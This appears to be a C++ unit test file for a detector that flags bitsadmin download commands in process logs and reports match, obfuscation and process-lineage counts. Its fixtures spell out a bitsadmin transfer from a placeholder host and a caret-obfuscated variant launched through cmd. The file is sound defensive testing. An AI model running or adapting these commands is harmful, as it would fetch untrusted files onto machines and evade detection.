#include "bits/run_figures.h"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <utility>

#include "tests/bits/command_run.h"

namespace bits {
namespace {

using Counts = std::pair<std::uint64_t, std::uint64_t>;

const std::string kHeader = "process,process_id,parent_process_id\n";
const std::string kPlain = "\"bitsadmin /transfer j https://h.example/a C:\\a\",1,\n";
const std::string kHidden = "\"cmd /c b^itsadmin /transfer j https://h.example/a C:\\a\",2,\n";
const std::string kOther = "notepad.exe,3,\n";

std::map<std::string, Counts> counts_of(const CommandRun& run) {
  std::map<std::string, Counts> out;
  for (const auto& metric : run.figures) out[metric.name] = {metric.in, metric.out};
  return out;
}

TEST(RunFigures, AreSaidOnceWithTheLastChunkOfAllChunks) {
  CommandRun run({});
  const std::string first = kHeader + kPlain + kOther;
  const std::string answer = run.chunk(first, false);
  EXPECT_TRUE(run.figures.empty());
  const std::string last = kHeader + kHidden;
  const std::size_t out = answer.size() + run.chunk(last).size();
  const auto counts = counts_of(run);
  ASSERT_EQ(run.figures.size(), 4U);
  EXPECT_EQ(counts.at("bitsmatch.rows"), Counts(3, 2));
  EXPECT_EQ(counts.at("bitsmatch.bytes"), Counts(first.size() + last.size(), out));
  EXPECT_EQ(counts.at("bitsmatch.matches"), Counts(3, 2));
  EXPECT_EQ(counts.at("bitsmatch.obfuscated"), Counts(2, 1));
  EXPECT_EQ(run.figures[0].invocations, 2U);
  EXPECT_GT(run.figures[0].seconds, 0.0);
}

// Two processes without a time had the id that the child names: either may be its parent.
TEST(RunFigures, WithLineageAlsoTheEdgesThatAreInDoubt) {
  CommandRun run({"lineage=inline"});
  const std::string header = "process,process_id,parent_process_id,process_name,_time\n";
  run.chunk(header + "one,7,,a.exe,\ntwo,7,,a.exe,\n" +
            "\"bitsadmin /transfer j https://h.example/a C:\\a\",8,7,bitsadmin.exe,100\n");
  EXPECT_EQ(counts_of(run).at("bitsmatch.ambiguous_edges"), Counts(3, 1));
  CommandRun without({});
  without.chunk(kHeader + kPlain);
  EXPECT_FALSE(counts_of(without).contains("bitsmatch.ambiguous_edges"));
}

// A table that is half full makes way for another between two chunks.
TEST(RunFigures, CountTheEdgesOfEachTableThatASearchFilled) {
  CommandRun run({"lineage=search", "maxprocesses=4"});
  const std::string header = "process,process_id,parent_process_id,process_name,_time\n";
  const std::string transfer = "\"bitsadmin /transfer j https://h.example/a C:\\a\"";
  const std::string rows = header + transfer + ",7,,a.exe,\n" + transfer + ",7,,a.exe,\n" +
                           transfer + ",8,7,bitsadmin.exe,100\n";
  run.chunk(rows, false);
  run.chunk(rows);
  EXPECT_EQ(counts_of(run).at("bitsmatch.ambiguous_edges"), Counts(6, 2));
}

}  // namespace
}  // namespace bits
